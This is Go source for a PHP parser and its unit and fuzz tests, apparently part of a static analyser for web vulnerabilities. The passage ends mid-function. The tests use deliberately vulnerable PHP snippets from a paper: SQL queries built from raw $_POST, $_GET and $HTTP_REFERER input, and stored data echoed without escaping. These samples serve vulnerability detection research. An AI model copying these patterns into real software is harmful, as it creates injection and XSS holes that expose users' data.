			p.expect(token.LParen)
			c := p.parseExpr()
			p.expect(token.RParen)
			p.expect(token.Colon)
			body := p.parseAltBody(token.KwElseif, token.KwElse, token.KwEndif)
			node.Elseifs = append(node.Elseifs, ast.ElseifClause{Cond: c, Body: body})
		}
		if _, ok := p.accept(token.KwElse); ok {
			p.expect(token.Colon)
			node.Else = p.parseAltBody(token.KwEndif)
			if node.Else == nil {
				node.Else = []ast.Stmt{}
			}
		}
		p.expect(token.KwEndif)
		p.accept(token.Semicolon)
		node.Span = span(start, p.toks[p.pos-1].End)
		return node
	}

	node.Then = p.parseBody()
	for {
		if p.at(token.KwElseif) {
			p.advance()
			p.expect(token.LParen)
			c := p.parseExpr()
			p.expect(token.RParen)
			body := p.parseBody()
			node.Elseifs = append(node.Elseifs, ast.ElseifClause{Cond: c, Body: body})
			continue
		}
		if p.at(token.KwElse) && p.peek() == token.KwIf {
			// "else if" is sugar for elseif.
			p.advance()
			p.advance()
			p.expect(token.LParen)
			c := p.parseExpr()
			p.expect(token.RParen)
			body := p.parseBody()
			node.Elseifs = append(node.Elseifs, ast.ElseifClause{Cond: c, Body: body})
			continue
		}
		break
	}
	if _, ok := p.accept(token.KwElse); ok {
		node.Else = p.parseBody()
		if node.Else == nil {
			node.Else = []ast.Stmt{}
		}
	}
	node.Span = span(start, p.toks[p.pos-1].End)
	return node
}

func (p *parser) parseWhile() ast.Stmt {
	start := p.advance().Pos
	p.expect(token.LParen)
	cond := p.parseExpr()
	p.expect(token.RParen)
	var body []ast.Stmt
	if _, alt := p.accept(token.Colon); alt {
		body = p.parseAltBody(token.KwEndwhile)
		p.expect(token.KwEndwhile)
		p.accept(token.Semicolon)
	} else {
		body = p.parseBody()
	}
	return &ast.WhileStmt{Span: span(start, p.toks[p.pos-1].End), Cond: cond, Body: body}
}

func (p *parser) parseDoWhile() ast.Stmt {
	start := p.advance().Pos // do
	body := p.parseBody()
	p.expect(token.KwWhile)
	p.expect(token.LParen)
	cond := p.parseExpr()
	p.expect(token.RParen)
	p.accept(token.Semicolon)
	return &ast.DoWhileStmt{Span: span(start, p.toks[p.pos-1].End), Body: body, Cond: cond}
}

func (p *parser) parseFor() ast.Stmt {
	start := p.advance().Pos
	p.expect(token.LParen)
	init := p.parseExprListUntil(token.Semicolon)
	p.expect(token.Semicolon)
	cond := p.parseExprListUntil(token.Semicolon)
	p.expect(token.Semicolon)
	post := p.parseExprListUntil(token.RParen)
	p.expect(token.RParen)
	var body []ast.Stmt
	if _, alt := p.accept(token.Colon); alt {
		body = p.parseAltBody(token.KwEndfor)
		p.expect(token.KwEndfor)
		p.accept(token.Semicolon)
	} else {
		body = p.parseBody()
	}
	return &ast.ForStmt{
		Span: span(start, p.toks[p.pos-1].End),
		Init: init, Cond: cond, Post: post, Body: body,
	}
}

func (p *parser) parseExprListUntil(term token.Kind) []ast.Expr {
	var list []ast.Expr
	if p.at(term) {
		return list
	}
	if e := p.parseExpr(); e != nil {
		list = append(list, e)
	}
	for p.at(token.Comma) {
		p.advance()
		if e := p.parseExpr(); e != nil {
			list = append(list, e)
		}
	}
	return list
}

func (p *parser) parseForeach() ast.Stmt {
	start := p.advance().Pos
	p.expect(token.LParen)
	subject := p.parseExpr()
	p.expect(token.KwAs)
	byRef := false
	if _, ok := p.accept(token.Amp); ok {
		byRef = true
	}
	first := p.parseLValue()
	node := &ast.ForeachStmt{Subject: subject, ByRef: byRef, ValVar: first}
	if _, ok := p.accept(token.DoubleArrow); ok {
		node.KeyVar = first
		if _, ok := p.accept(token.Amp); ok {
			node.ByRef = true
		}
		node.ValVar = p.parseLValue()
	}
	p.expect(token.RParen)
	if _, alt := p.accept(token.Colon); alt {
		node.Body = p.parseAltBody(token.KwEndforeach)
		p.expect(token.KwEndforeach)
		p.accept(token.Semicolon)
	} else {
		node.Body = p.parseBody()
	}
	node.Span = span(start, p.toks[p.pos-1].End)
	// A foreach without a subject or a value target cannot be analyzed;
	// drop the statement (the error is already recorded) rather than
	// hand consumers an AST node with nil mandatory children.
	if node.Subject == nil || node.ValVar == nil {
		p.errorf("malformed foreach header")
		return nil
	}
	return node
}

// parseLValue parses a variable-rooted postfix expression (foreach targets,
// assignment LHS contexts that must be lvalues).
func (p *parser) parseLValue() ast.Expr {
	e := p.parsePrimary()
	return p.parsePostfixOps(e)
}

func (p *parser) parseSwitch() ast.Stmt {
	start := p.advance().Pos
	p.expect(token.LParen)
	subject := p.parseExpr()
	p.expect(token.RParen)
	node := &ast.SwitchStmt{Subject: subject}

	alt := false
	if _, ok := p.accept(token.Colon); ok {
		alt = true
	} else {
		p.expect(token.LBrace)
	}
	isEnd := func() bool {
		if alt {
			return p.at(token.KwEndswitch)
		}
		return p.at(token.RBrace)
	}
	for !isEnd() && !p.at(token.EOF) {
		var match ast.Expr
		switch p.kind() {
		case token.KwCase:
			p.advance()
			match = p.parseExpr()
		case token.KwDefault:
			p.advance()
		default:
			p.errorf("expected case/default, found %v", p.cur())
			// Same progress guarantee as the class-body loop: synchronize
			// may stop before a statement keyword without consuming it.
			mark := p.pos
			p.synchronize()
			if p.pos == mark {
				p.advance()
			}
			continue
		}
		if !p.at(token.Colon) && !p.at(token.Semicolon) {
			p.errorf("expected ':' after case, found %v", p.cur())
		} else {
			p.advance()
		}
		var body []ast.Stmt
		for !p.at(token.KwCase) && !p.at(token.KwDefault) && !isEnd() && !p.at(token.EOF) {
			if s := p.parseTopLevel(); s != nil {
				body = append(body, s)
			}
		}
		node.Cases = append(node.Cases, ast.SwitchCase{Match: match, Body: body})
	}
	if alt {
		p.expect(token.KwEndswitch)
		p.accept(token.Semicolon)
	} else {
		p.expect(token.RBrace)
	}
	node.Span = span(start, p.toks[p.pos-1].End)
	return node
}

func (p *parser) parseBreakContinue() ast.Stmt {
	t := p.advance()
	level := 1
	if lt, ok := p.accept(token.IntLit); ok {
		if n, err := strconv.Atoi(lt.Text); err == nil && n > 0 {
			level = n
		}
	}
	p.accept(token.Semicolon)
	sp := span(t.Pos, p.toks[p.pos-1].End)
	if t.Kind == token.KwBreak {
		return &ast.BreakStmt{Span: sp, Level: level}
	}
	return &ast.ContinueStmt{Span: sp, Level: level}
}

func (p *parser) parseReturn() ast.Stmt {
	t := p.advance()
	node := &ast.ReturnStmt{}
	if !p.at(token.Semicolon) && !p.at(token.CloseTag) && !p.at(token.EOF) && !p.at(token.RBrace) {
		node.X = p.parseExpr()
	}
	p.accept(token.Semicolon)
	node.Span = span(t.Pos, p.toks[p.pos-1].End)
	return node
}

func (p *parser) parseEcho() ast.Stmt {
	t := p.advance()
	var args []ast.Expr
	if first := p.parseExpr(); first != nil {
		args = append(args, first)
	} else {
		p.errorf("expected expression after echo")
	}
	for p.at(token.Comma) {
		p.advance()
		if next := p.parseExpr(); next != nil {
			args = append(args, next)
		}
	}
	p.accept(token.Semicolon)
	return &ast.EchoStmt{Span: span(t.Pos, p.toks[p.pos-1].End), Args: args}
}

func (p *parser) parseGlobal() ast.Stmt {
	t := p.advance()
	var names []string
	for {
		v := p.expect(token.Variable)
		names = append(names, v.Text)
		if _, ok := p.accept(token.Comma); !ok {
			break
		}
	}
	p.accept(token.Semicolon)
	return &ast.GlobalStmt{Span: span(t.Pos, p.toks[p.pos-1].End), Names: names}
}

func (p *parser) parseStaticVars() ast.Stmt {
	t := p.advance()
	node := &ast.StaticStmt{}
	for {
		v := p.expect(token.Variable)
		sv := ast.StaticVar{Name: v.Text}
		if _, ok := p.accept(token.Assign); ok {
			sv.Init = p.parseAssignLevel()
		}
		node.Vars = append(node.Vars, sv)
		if _, ok := p.accept(token.Comma); !ok {
			break
		}
	}
	p.accept(token.Semicolon)
	node.Span = span(t.Pos, p.toks[p.pos-1].End)
	return node
}

func (p *parser) parseUnset() ast.Stmt {
	t := p.advance()
	p.expect(token.LParen)
	args := p.parseExprListUntil(token.RParen)
	p.expect(token.RParen)
	p.accept(token.Semicolon)
	return &ast.UnsetStmt{Span: span(t.Pos, p.toks[p.pos-1].End), Args: args}
}

func (p *parser) parseFunction() ast.Stmt {
	t := p.advance() // function
	p.accept(token.Amp)
	name := p.expect(token.Ident)
	params := p.parseParams()
	body := p.parseBody()
	return &ast.FunctionDecl{
		Span:   span(t.Pos, p.toks[p.pos-1].End),
		Name:   name.Text,
		Params: params,
		Body:   body,
	}
}

func (p *parser) parseParams() []ast.Param {
	p.expect(token.LParen)
	var params []ast.Param
	for !p.at(token.RParen) && !p.at(token.EOF) {
		var prm ast.Param
		if _, ok := p.accept(token.Amp); ok {
			prm.ByRef = true
		}
		// Skip a type hint if present (PHP5+, rare in corpus).
		if p.at(token.Ident) && p.peek() == token.Variable {
			p.advance()
		}
		v := p.expect(token.Variable)
		prm.Name = v.Text
		if _, ok := p.accept(token.Assign); ok {
			prm.Default = p.parseAssignLevel()
		}
		params = append(params, prm)
		if _, ok := p.accept(token.Comma); !ok {
			break
		}
	}
	p.expect(token.RParen)
	return params
}

func (p *parser) parseClass() ast.Stmt {
	t := p.advance() // class
	name := p.expect(token.Ident)
	node := &ast.ClassDecl{Name: name.Text}
	if p.at(token.Ident) && strings.EqualFold(p.cur().Text, "extends") {
		p.advance()
		parent := p.expect(token.Ident)
		node.Parent = parent.Text
	}
	p.expect(token.LBrace)
	for !p.at(token.RBrace) && !p.at(token.EOF) {
		switch p.kind() {
		case token.KwVar:
			p.advance()
			for {
				v := p.expect(token.Variable)
				pd := ast.PropDecl{Name: v.Text}
				if _, ok := p.accept(token.Assign); ok {
					pd.Default = p.parseAssignLevel()
				}
				node.Props = append(node.Props, pd)
				if _, ok := p.accept(token.Comma); !ok {
					break
				}
			}
			p.accept(token.Semicolon)
		case token.KwFunction:
			fd, ok := p.parseFunction().(*ast.FunctionDecl)
			if ok {
				node.Methods = append(node.Methods, fd)
			}
		case token.Ident:
			// Visibility modifiers etc.: skip tolerantly.
			p.advance()
		default:
			p.errorf("unexpected %v in class body", p.cur())
			// synchronize stops *before* statement keywords so statement
			// parsers can resume there, but this loop has no statement
			// parser to hand off to — force progress or we spin forever.
			mark := p.pos
			p.synchronize()
			if p.pos == mark {
				p.advance()
			}
		}
	}
	p.expect(token.RBrace)
	node.Span = span(t.Pos, p.toks[p.pos-1].End)
	return node
}
