package parser

import (
	"strings"
	"testing"

	"webssari/internal/php/ast"
)

// parseOK parses src and fails the test on any diagnostic.
func parseOK(t *testing.T, src string) *ast.File {
	t.Helper()
	res := Parse("test.php", []byte(src))
	for _, err := range res.Errs {
		t.Errorf("parse error: %v", err)
	}
	return res.File
}

// wantDump parses src and compares the structural dump.
func wantDump(t *testing.T, src, want string) {
	t.Helper()
	f := parseOK(t, src)
	got := ast.DumpStmts(f.Stmts)
	if got != want {
		t.Fatalf("src: %s\n got: %s\nwant: %s", src, got, want)
	}
}

func TestSimpleAssignment(t *testing.T) {
	wantDump(t, `<?php $x = 1;`, `[(expr ("=" $x (int 1)))]`)
}

func TestConcatAssign(t *testing.T) {
	wantDump(t, `<?php $q .= 'a';`, `[(expr (".=" $q (str "a")))]`)
}

func TestSuperglobalIndex(t *testing.T) {
	wantDump(t, `<?php $sid = $_GET['sid'];`,
		`[(expr ("=" $sid (index $_GET (str "sid"))))]`)
}

func TestAssignmentRightAssociative(t *testing.T) {
	wantDump(t, `<?php $a = $b = 1;`, `[(expr ("=" $a ("=" $b (int 1))))]`)
}

func TestPrecedence(t *testing.T) {
	wantDump(t, `<?php $x = 1 + 2 * 3;`,
		`[(expr ("=" $x ("+" (int 1) ("*" (int 2) (int 3)))))]`)
	wantDump(t, `<?php $x = (1 + 2) * 3;`,
		`[(expr ("=" $x ("*" ("+" (int 1) (int 2)) (int 3))))]`)
	wantDump(t, `<?php $x = 'a' . 'b' . 'c';`,
		`[(expr ("=" $x ("." ("." (str "a") (str "b")) (str "c"))))]`)
	wantDump(t, `<?php $r = $a == $b && $c != $d;`,
		`[(expr ("=" $r ("&&" ("==" $a $b) ("!=" $c $d))))]`)
}

func TestKeywordLogicalsBindLooserThanAssign(t *testing.T) {
	// "$x = $y or die()" must parse as "($x = $y) or die()".
	wantDump(t, `<?php $x = $y or exit;`,
		`[(expr ("or" ("=" $x $y) (exit)))]`)
}

func TestTernary(t *testing.T) {
	wantDump(t, `<?php $m = $c ? 1 : 2;`,
		`[(expr ("=" $m (?: $c (int 1) (int 2))))]`)
	wantDump(t, `<?php $m = $c ?: 2;`,
		`[(expr ("=" $m (?: $c nil (int 2))))]`)
}

func TestUnary(t *testing.T) {
	wantDump(t, `<?php $x = !$a; $y = -$b; $z = @f(); $w++; --$v;`,
		`[(expr ("=" $x (pre"!" $a))) `+
			`(expr ("=" $y (pre"-" $b))) `+
			`(expr ("=" $z (pre"@" (call (const f))))) `+
			`(expr (post"++" $w)) `+
			`(expr (pre"--" $v))]`)
}

func TestCallsAndArgs(t *testing.T) {
	wantDump(t, `<?php mysql_query($q, $link);`,
		`[(expr (call (const mysql_query) $q $link))]`)
	wantDump(t, `<?php $f($x);`, `[(expr (call $f $x))]`)
	wantDump(t, `<?php htmlspecialchars($tmp);`,
		`[(expr (call (const htmlspecialchars) $tmp))]`)
}

func TestMethodAndStaticCalls(t *testing.T) {
	wantDump(t, `<?php $db->query($sql);`, `[(expr (method $db query $sql))]`)
	wantDump(t, `<?php DB::connect($dsn);`, `[(expr (static DB::connect $dsn))]`)
	wantDump(t, `<?php $o->p = 1;`, `[(expr ("=" (prop $o p) (int 1)))]`)
	wantDump(t, `<?php new Foo($x);`, `[(expr (new Foo $x))]`)
}

func TestEcho(t *testing.T) {
	wantDump(t, `<?php echo $a, 'x', $b;`, `[(echo $a (str "x") $b)]`)
	wantDump(t, `<?php print $a;`, `[(expr (call (const print) $a))]`)
}

func TestEchoShortTag(t *testing.T) {
	wantDump(t, `<?= $x ?>`, `[(echo $x)]`)
}

func TestInlineHTMLAroundPHP(t *testing.T) {
	wantDump(t, "<b>hi</b><?php $x = 1; ?><i>bye</i>",
		`[(html "<b>hi</b>") (expr ("=" $x (int 1))) (html "<i>bye</i>")]`)
}

func TestIfElseifElse(t *testing.T) {
	wantDump(t, `<?php if ($a) { f(); } elseif ($b) { g(); } else { h(); }`,
		`[(if $a [(expr (call (const f)))] (elseif $b [(expr (call (const g)))]) (else [(expr (call (const h)))]))]`)
}

func TestElseIfSplit(t *testing.T) {
	wantDump(t, `<?php if ($a) f(); else if ($b) g();`,
		`[(if $a [(expr (call (const f)))] (elseif $b [(expr (call (const g)))]))]`)
}

func TestAlternativeIfSyntax(t *testing.T) {
	wantDump(t, `<?php if ($a): f(); elseif ($b): g(); else: h(); endif;`,
		`[(if $a [(expr (call (const f)))] (elseif $b [(expr (call (const g)))]) (else [(expr (call (const h)))]))]`)
}

func TestAlternativeSyntaxWithHTML(t *testing.T) {
	wantDump(t, `<?php if ($ok): ?>yes<?php else: ?>no<?php endif; ?>`,
		`[(if $ok [(html "yes")] (else [(html "no")]))]`)
}

func TestWhileAndAlt(t *testing.T) {
	wantDump(t, `<?php while ($r = f()) { g($r); }`,
		`[(while ("=" $r (call (const f))) [(expr (call (const g) $r))])]`)
	wantDump(t, `<?php while ($x): f(); endwhile;`,
		`[(while $x [(expr (call (const f)))])]`)
}

func TestDoWhile(t *testing.T) {
	wantDump(t, `<?php do { f(); } while ($x);`,
		`[(do [(expr (call (const f)))] $x)]`)
}

func TestFor(t *testing.T) {
	wantDump(t, `<?php for ($i = 0; $i < 10; $i++) { f($i); }`,
		`[(for (("=" $i (int 0))) (("<" $i (int 10))) ((post"++" $i)) [(expr (call (const f) $i))])]`)
	wantDump(t, `<?php for (;;) { }`, `[(for () () () [])]`)
}

func TestForeach(t *testing.T) {
	wantDump(t, `<?php foreach ($rows as $row) { f($row); }`,
		`[(foreach $rows as $row [(expr (call (const f) $row))])]`)
	wantDump(t, `<?php foreach ($m as $k => $v) g($k, $v);`,
		`[(foreach $m as $k => $v [(expr (call (const g) $k $v))])]`)
	wantDump(t, `<?php foreach ($m as $k => &$v) {}`,
		`[(foreach $m as $k => &$v [])]`)
}

func TestSwitch(t *testing.T) {
	wantDump(t, `<?php switch ($x) { case 1: f(); break; default: g(); }`,
		`[(switch $x (case (int 1) [(expr (call (const f))) (break 1)]) (default [(expr (call (const g)))]))]`)
}

func TestBreakContinueLevels(t *testing.T) {
	wantDump(t, `<?php while (1) { break 2; continue; }`,
		`[(while (int 1) [(break 2) (continue 1)])]`)
}

func TestFunctionDecl(t *testing.T) {
	wantDump(t, `<?php function add($a, $b = 1, &$c) { return $a + $b; }`,
		`[(function add ($a $b=(int 1) &$c) [(return ("+" $a $b))])]`)
}

func TestClassDecl(t *testing.T) {
	wantDump(t, `<?php class Conn extends Base { var $dsn = 'x'; function q($s) { return mysql_query($s); } }`,
		`[(class Conn extends Base (var $dsn=(str "x")) (function q ($s) [(return (call (const mysql_query) $s))]))]`)
}

func TestGlobalStaticUnset(t *testing.T) {
	wantDump(t, `<?php global $db, $cfg; static $n = 0; unset($a, $b);`,
		`[(global db cfg) (staticvar $n=(int 0)) (unset $a $b)]`)
}

func TestIncludeForms(t *testing.T) {
	wantDump(t, `<?php include 'a.php'; require_once("b.php");`,
		`[(expr (include (str "a.php"))) (expr (require_once (str "b.php")))]`)
}

func TestIssetEmptyList(t *testing.T) {
	wantDump(t, `<?php if (isset($_GET['x']) && !empty($y)) { list($a, $b) = f(); }`,
		`[(if ("&&" (isset (index $_GET (str "x"))) (pre"!" (empty $y))) `+
			`[(expr ("=" (list $a $b) (call (const f))))])]`)
}

func TestArrayLiterals(t *testing.T) {
	wantDump(t, `<?php $a = array(1, 'k' => 2, $x);`,
		`[(expr ("=" $a (array (int 1) ((str "k") => (int 2)) $x)))]`)
}

func TestExitDie(t *testing.T) {
	wantDump(t, `<?php exit; die('bye'); exit(1);`,
		`[(expr (exit)) (expr (exit (str "bye"))) (expr (exit (int 1)))]`)
}

func TestVariableVariable(t *testing.T) {
	wantDump(t, `<?php $$name = 1; ${$k} = 2;`,
		`[(expr ("=" (varvar $name) (int 1))) (expr ("=" (varvar $k) (int 2)))]`)
}

func TestReferenceAssign(t *testing.T) {
	wantDump(t, `<?php $a = &$b;`, `[(expr ("=&" $a $b))]`)
}

func TestInterpolationSimple(t *testing.T) {
	wantDump(t, `<?php $q = "SELECT * FROM t WHERE id=$id";`,
		`[(expr ("=" $q ("." (str "SELECT * FROM t WHERE id=") $id)))]`)
}

func TestInterpolationComplex(t *testing.T) {
	wantDump(t, `<?php echo "hi {$row['name']} and $a[k]!";`,
		`[(echo ("." ("." ("." ("." (str "hi ") (index $row (str "name"))) (str " and ")) (index $a (str "k"))) (str "!")))]`)
}

func TestHeredocInterp(t *testing.T) {
	src := "<?php $q = <<<EOT\nHello $name\nEOT;\n"
	wantDump(t, src, `[(expr ("=" $q ("." (str "Hello ") $name)))]`)
}

func TestPureDoubleQuotedBecomesStringLit(t *testing.T) {
	wantDump(t, `<?php $x = "plain";`, `[(expr ("=" $x (str "plain")))]`)
}

// ------------------------- paper figures as golden inputs -----------------

// Figure 1: the PHP Support Tickets XSS vulnerability (ticket submission).
const figure1 = `<?php
$query = "INSERT INTO tickets_tickets (tickets_id, tickets_username, tickets_subject, tickets_question) VALUES ('" . $_SESSION['username'] . "', '" . $_POST['ticketsubject'] . "', '" . $_POST['message'] . "')";
$result = @mysql_query($query);
?>`

func TestFigure1Parses(t *testing.T) {
	f := parseOK(t, figure1)
	if len(f.Stmts) != 2 {
		t.Fatalf("stmts = %d, want 2", len(f.Stmts))
	}
	dump := ast.DumpStmts(f.Stmts)
	for _, frag := range []string{"$_SESSION", "$_POST", "mysql_query", `"ticketsubject"`, `"message"`} {
		if !strings.Contains(dump, frag) {
			t.Errorf("dump missing %s:\n%s", frag, dump)
		}
	}
}

// Figure 2: displaying the tickets (stored XSS delivery).
const figure2 = `<?php
$query = "SELECT tickets_id, tickets_username, tickets_subject FROM tickets_tickets";
$result = @mysql_query($query);
while ($row = @mysql_fetch_array($result)) {
    extract($row);
    echo "$tickets_username<BR>$tickets_subject<BR><BR>";
}
?>`

func TestFigure2Parses(t *testing.T) {
	f := parseOK(t, figure2)
	if len(f.Stmts) != 3 {
		t.Fatalf("stmts = %d, want 3", len(f.Stmts))
	}
	w, ok := f.Stmts[2].(*ast.WhileStmt)
	if !ok {
		t.Fatalf("stmt 2 is %T, want while", f.Stmts[2])
	}
	if len(w.Body) != 2 {
		t.Fatalf("while body = %d stmts, want 2", len(w.Body))
	}
	if _, ok := w.Body[1].(*ast.EchoStmt); !ok {
		t.Fatalf("body[1] is %T, want echo", w.Body[1])
	}
}

// Figure 3: the ILIAS Open Source SQL injection via $HTTP_REFERER.
const figure3 = `<?php
$sql = "INSERT INTO track_temp VALUES('$HTTP_REFERER');";
mysql_query($sql);
?>`

func TestFigure3Parses(t *testing.T) {
	f := parseOK(t, figure3)
	dump := ast.DumpStmts(f.Stmts)
	if !strings.Contains(dump, "$HTTP_REFERER") {
		t.Fatalf("dump missing $HTTP_REFERER:\n%s", dump)
	}
}

// Figure 7: multiple vulnerabilities arising from one root cause ($sid).
const figure7 = `<?php
$sid = $_GET['sid'];
if (!$sid) { $sid = $_POST['sid']; }
$iq = "SELECT * FROM groups WHERE sid=$sid";
DoSQL($iq);
$i2q = "SELECT * FROM ans WHERE sid=$sid";
DoSQL($i2q);
$fnquery = "SELECT * FROM questions, surveys WHERE questions.sid=surveys.sid AND questions.sid='$sid'";
DoSQL($fnquery);
?>`

func TestFigure7Parses(t *testing.T) {
	f := parseOK(t, figure7)
	if len(f.Stmts) != 8 {
		t.Fatalf("stmts = %d, want 8", len(f.Stmts))
	}
}

// Figure 6: the translation example program.
const figure6 = `<?php
if ($Nick) {
    $tmp = $_GET["nick"];
    echo(htmlspecialchars($tmp));
} else {
    $tmp = "You are the " . $GuestCount . " guest";
    echo($tmp);
}
?>`

func TestFigure6Parses(t *testing.T) {
	f := parseOK(t, figure6)
	ifs, ok := f.Stmts[0].(*ast.IfStmt)
	if !ok {
		t.Fatalf("stmt 0 is %T", f.Stmts[0])
	}
	if len(ifs.Then) != 2 || len(ifs.Else) != 2 {
		t.Fatalf("branch sizes = %d/%d, want 2/2", len(ifs.Then), len(ifs.Else))
	}
}

// ----------------------------- error handling -----------------------------

func TestSyntaxErrorRecovery(t *testing.T) {
	res := Parse("t", []byte(`<?php $x = ; $y = 2;`))
	if len(res.Errs) == 0 {
		t.Fatalf("want syntax error")
	}
	// The second statement must still be parsed.
	dump := ast.DumpStmts(res.File.Stmts)
	if !strings.Contains(dump, `("=" $y (int 2))`) {
		t.Fatalf("recovery failed: %s", dump)
	}
}

func TestErrorLimit(t *testing.T) {
	src := "<?php " + strings.Repeat("] ", 500)
	res := Parse("t", []byte(src))
	if len(res.Errs) > maxParseErrors+10 {
		t.Fatalf("unbounded error accumulation: %d", len(res.Errs))
	}
}

func TestPositionsSurviveParsing(t *testing.T) {
	src := "<?php\n$a = 1;\n$b = $a;\n"
	f := parseOK(t, src)
	second, ok := f.Stmts[1].(*ast.ExprStmt)
	if !ok {
		t.Fatalf("stmt 1 is %T", f.Stmts[1])
	}
	if second.Pos().Line != 3 {
		t.Fatalf("line = %d, want 3", second.Pos().Line)
	}
	if got := src[second.Pos().Offset:second.End()]; got != "$b = $a;" {
		t.Fatalf("span = %q", got)
	}
}

// --------------------------- print/parse fixpoint --------------------------

var roundTripSamples = []string{
	`<?php $x = 1;`,
	`<?php $q = "a $b c";`,
	`<?php if ($a) { f(); } else { g(); }`,
	`<?php while ($x) { $x = $x - 1; }`,
	`<?php for ($i = 0; $i < 3; $i++) echo $i;`,
	`<?php foreach ($rows as $k => $v) { echo $v; }`,
	`<?php function f($a, $b = 2) { return $a . $b; }`,
	`<?php switch ($x) { case 1: f(); break; default: g(); }`,
	`<?php $a = array('k' => $v, 2);`,
	`<?php echo isset($x) ? $x : 'none';`,
	`<?php $obj->method($arg)->chained;`,
	`<?php include 'lib.php'; $y = @mysql_query($q) or die('fail');`,
	`<?php class C { var $p; function m() { return $this->p; } }`,
	`<?php do { $i++; } while ($i < 5);`,
	`<?php list($a, $b) = explode(',', $s); unset($a); global $g; static $n = 0;`,
	figure1, figure2, figure3, figure6, figure7,
}

func TestPrintParseFixpoint(t *testing.T) {
	for _, src := range roundTripSamples {
		f1 := parseOK(t, src)
		printed := ast.PrintFile(f1)
		res2 := Parse("printed.php", []byte(printed))
		for _, err := range res2.Errs {
			t.Errorf("reparse error for %q: %v\nprinted:\n%s", src, err, printed)
		}
		d1 := ast.DumpStmts(f1.Stmts)
		d2 := ast.DumpStmts(res2.File.Stmts)
		if d1 != d2 {
			t.Errorf("fixpoint failure for %q:\n d1: %s\n d2: %s\nprinted:\n%s", src, d1, d2, printed)
		}
	}
}

func TestCastExpressions(t *testing.T) {
	wantDump(t, `<?php $n = (int)$_GET['id']; $s = (string)$x; $a = (array)$y; $f = (float)($z + 1);`,
		`[(expr ("=" $n (cast int (index $_GET (str "id"))))) `+
			`(expr ("=" $s (cast string $x))) `+
			`(expr ("=" $a (cast array $y))) `+
			`(expr ("=" $f (cast float ("+" $z (int 1)))))]`)
}

func TestParenNotMistakenForCast(t *testing.T) {
	// (int) is a cast, but ($x) and (foo) are parenthesized expressions.
	wantDump(t, `<?php $a = ($x); $b = (foo); $c = (1 + 2) * 3;`,
		`[(expr ("=" $a $x)) (expr ("=" $b (const foo))) `+
			`(expr ("=" $c ("*" ("+" (int 1) (int 2)) (int 3))))]`)
}

func TestBacktickDesugarsToShellExec(t *testing.T) {
	wantDump(t, "<?php $o = `ls -l $dir`;",
		`[(expr ("=" $o (call (const shell_exec) ("." (str "ls -l ") $dir))))]`)
}

func TestTypeHintedParamSkipped(t *testing.T) {
	wantDump(t, `<?php function f(MyClass $obj, $plain) { }`,
		`[(function f ($obj $plain) [])]`)
}

func TestClassVisibilityTolerated(t *testing.T) {
	// PHP5 visibility keywords parse tolerantly (skipped as bare idents).
	f := parseOK(t, `<?php class C { public function m() { return 1; } }`)
	cls, ok := f.Stmts[0].(*ast.ClassDecl)
	if !ok || len(cls.Methods) != 1 {
		t.Fatalf("class methods = %+v", f.Stmts[0])
	}
}

func TestSwitchAlternativeSyntax(t *testing.T) {
	wantDump(t, `<?php switch ($x): case 1: f(); break; endswitch;`,
		`[(switch $x (case (int 1) [(expr (call (const f))) (break 1)]))]`)
}

func TestForAlternativeSyntax(t *testing.T) {
	wantDump(t, `<?php for ($i = 0; $i < 2; $i++): f(); endfor;`,
		`[(for (("=" $i (int 0))) (("<" $i (int 2))) ((post"++" $i)) [(expr (call (const f)))])]`)
}

func TestStringOffsetBraces(t *testing.T) {
	wantDump(t, `<?php $c = $s{0};`, `[(expr ("=" $c (index $s (int 0))))]`)
}

func TestByRefFunctionDecl(t *testing.T) {
	// "function &f()" — the & before the name is tolerated.
	wantDump(t, `<?php function &f() { return $x; }`, `[(function f () [(return $x)])]`)
}

func TestParseExprString(t *testing.T) {
	e, errs := ParseExprString("t", "$a['k'] . $b")
	if len(errs) != 0 {
		t.Fatalf("errs: %v", errs)
	}
	if got := ast.Dump(e); got != `("." (index $a (str "k")) $b)` {
		t.Fatalf("dump = %q", got)
	}
}
