package parser

import (
	"testing"

	"webssari/internal/php/ast"
	"webssari/internal/php/lexer"
)

// FuzzParse asserts the parser's crash-freedom contract: arbitrary input
// must never panic, and whatever parses must dump and print without
// panicking either. Run with `go test -fuzz=FuzzParse` for a real fuzzing
// session; the seed corpus below runs as part of the normal test suite.
func FuzzParse(f *testing.F) {
	seeds := []string{
		"",
		"<?php",
		"<?php $x = 1;",
		"<?php if ($a) { echo $b; } else { echo $c; }",
		`<?php $q = "SELECT $x FROM ${t} {$a['k']}";`,
		"<?php function f(&$a, $b = array(1,2)) { return $a . $b; }",
		"<?php foreach ($m as $k => &$v): echo $v; endforeach;",
		"<?php class C extends D { var $p; function m() {} }",
		"<?php switch($x){case 1: break 2; default: exit;}",
		"<?php $x = <<<EOT\nbody $v\nEOT;",
		"<?php /* unterminated",
		"<?php \"unterminated",
		"<?php $x = ((((((1))))));",
		"<?php ]]][[;;; if while",
		"<?php $$$$x = 1;",
		"text<?= $x ?>more<? echo 1 ?>end",
		"<?php if ($a): elseif ($b): else: endif;",
		"<?php do { } while (1);",
		"<?php list(, $b, , $d) = $arr;",
		"<?php $a{'0'} = $b{1};",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		res := Parse("fuzz.php", []byte(src))
		if res.File == nil {
			t.Fatalf("nil file for %q", src)
		}
		// The dump and printer must not panic on any parse result.
		_ = ast.DumpStmts(res.File.Stmts)
		printed := ast.PrintFile(res.File)
		// Reparsing printed output must also be panic-free.
		_ = Parse("printed.php", []byte(printed))
	})
}

// FuzzSplitInterp asserts the interpolation splitter never panics and that
// literal text is preserved in order.
func FuzzSplitInterp(f *testing.F) {
	for _, s := range []string{
		"", "plain", `$x`, `a $x b`, `${v}`, `{$a['k']}`, `$a[0]$b[k]$c->p`,
		`\\n\\t\\$x\\x41`, `{$unclosed`, `$`, `${`, `\`, `$a[`, `$a[]`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		segs := lexer.SplitInterp(raw)
		for _, seg := range segs {
			if seg.Kind != lexer.SegText && seg.Kind != lexer.SegExpr {
				t.Fatalf("invalid segment kind %d", seg.Kind)
			}
		}
	})
}
