package parser

import (
	"strconv"
	"strings"

	"webssari/internal/php/ast"
	"webssari/internal/php/lexer"
	"webssari/internal/php/token"
)

// parseExpr parses a full expression, starting from the loosest-binding
// operators (the keyword logicals "or"/"xor"/"and", which bind more loosely
// than assignment in PHP).
func (p *parser) parseExpr() ast.Expr {
	return p.parseKeywordOr()
}

func (p *parser) parseKeywordOr() ast.Expr {
